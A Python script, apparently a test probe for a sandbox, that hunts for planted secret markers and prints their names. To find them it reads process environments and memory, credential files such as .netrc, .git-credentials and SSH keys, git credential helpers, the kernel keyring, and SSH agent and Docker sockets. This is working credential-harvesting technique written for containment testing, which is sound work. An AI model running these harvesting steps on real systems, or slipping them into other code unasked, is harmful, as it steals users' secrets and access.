"""An agent that hunts for credentials: it looks wherever one may lie, and prints the names of those it can use.

Each planted secret reads `SECRET-NAME-`; the names are all it prints. It is told where the user's home, the data folder, the
sockets and a process of the user are, so that it has to guess nothing: `hunter HOME DATA_FOLDER SOCKET,SOCKET PID`.
"""

import contextlib
import ctypes
import os
import re
import socket
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

MARK = re.compile(rb"SECRET-([a-z-]+?)-END")
FILE_BYTES = 1 << 20
MEMORY_BYTES = 64 << 20
KEY_SPEC_SESSION_KEYRING = -3
KEYCTL_SEARCH, KEYCTL_READ = 10, 11
KEYCTL = {"x86_64": 250}.get(os.uname().machine, 219)


def main(home: Path, data: Path, sockets: list[str], victim: int) -> None:
    found: set[str] = set()
    for place in (environments, lambda: files(home, data), lambda: helper(home), keyring):
        for text in place():
            found.update(name.decode() for name in MARK.findall(text))
    for text in (*memory(victim), *(answer(path) for path in [*sockets, "/var/run/docker.sock"])):
        found.update(name.decode() for name in MARK.findall(text))
    sys.stdout.write(f"FOUND {' '.join(sorted(found))}\nLOOKED\n")


def environments() -> Iterator[bytes]:
    yield "\0".join(f"{name}={value}" for name, value in os.environ.items()).encode()
    for process in Path("/proc").glob("[0-9]*"):
        for name in ("environ", "cmdline"):
            with contextlib.suppress(OSError):
                yield (process / name).read_bytes()


def files(home: Path, data: Path) -> Iterator[bytes]:
    tops = {home, data, Path.home(), Path("/root"), Path(os.environ.get("HOME", "/"))}
    for top in [*tops, Path("/etc/gitconfig"), Path("/run/user")]:
        if top.is_file():
            yield from content(top)
        names = [
            ".netrc",
            ".git-credentials",
            ".ssh/id_ed25519",
            ".config/gh/hosts.yml",
            ".config/glab-cli/config.yml",
        ]
        for name in names:
            yield from content(top / name)
    for top in (home, data):
        for folder, _, names in os.walk(top):
            for name in names:
                yield from content(Path(folder) / name)
    # What a folder that may be passed through and not listed holds, under the names that everybody knows.
    for name in (
        "hub/secret",
        "hub/local.token",
        "hub/providers.json",
        "hub/provider.key",
        "node/laptop/mirror.db",
    ):
        yield from content(data / name)
    for root in Path("/proc").glob("[0-9]*/root"):
        yield from content(Path(f"{root}{home}/.netrc"))


def content(path: Path) -> Iterator[bytes]:
    with contextlib.suppress(OSError), path.open("rb") as file:
        yield file.read(FILE_BYTES)


def helper(home: Path) -> Iterator[bytes]:
    """What git's own credential helpers give to whoever asks, the rules of the environment taken away."""
    env = {name: value for name, value in os.environ.items() if not name.startswith("GIT_")}
    for where in (env.get("HOME", "/"), str(home)):
        with contextlib.suppress(OSError, subprocess.SubprocessError):
            asked = subprocess.run(
                ["git", "credential", "fill"],
                input=b"protocol=https\nhost=forge.invalid\n\n",
                env={**env, "HOME": where, "GIT_TERMINAL_PROMPT": "0"},
                capture_output=True,
                timeout=30,
                check=False,
                cwd="/",
            )
            yield asked.stdout


def keyring() -> Iterator[bytes]:
    """The kernel's keys of this session."""
    library = ctypes.CDLL(None)
    key = library.syscall(KEYCTL, KEYCTL_SEARCH, KEY_SPEC_SESSION_KEYRING, b"user", b"tenure-test", 0)
    if key > 0:
        room = ctypes.create_string_buffer(4096)
        library.syscall(KEYCTL, KEYCTL_READ, key, room, len(room))
        yield room.raw


def memory(victim: int) -> Iterator[bytes]:
    """What a process of the user holds in its memory, and what those hold from which this one was started."""
    chain, pid = [victim], os.getppid()
    while pid > 1 and len(chain) < 10:
        chain.append(pid)
        with contextlib.suppress(OSError, StopIteration):
            lines = Path(f"/proc/{pid}/status").read_text().splitlines()
            pid = next(int(line.split()[1]) for line in lines if line.startswith("PPid:"))
            continue
        break
    for one in chain:
        with contextlib.suppress(OSError, ValueError):
            areas = [line.split()[:2] for line in Path(f"/proc/{one}/maps").read_text().splitlines()]
            with Path(f"/proc/{one}/mem").open("rb", buffering=0) as file:
                for area, rights in areas:
                    if rights.startswith("rw"):
                        start, end = (int(part, 16) for part in area.split("-"))
                        with contextlib.suppress(OSError, OverflowError):
                            yield os.pread(file.fileno(), min(end - start, MEMORY_BYTES), start)


def answer(path: str) -> bytes:
    """What somebody on a socket says: an SSH agent, a container daemon."""
    with contextlib.suppress(OSError), socket.socket(socket.AF_UNIX) as link:
        link.settimeout(10)
        link.connect(path)
        link.sendall(b"x")
        return link.recv(4096)
    return b""


if __name__ == "__main__":
    main(Path(sys.argv[1]), Path(sys.argv[2]), sys.argv[3].split(","), int(sys.argv[4]))
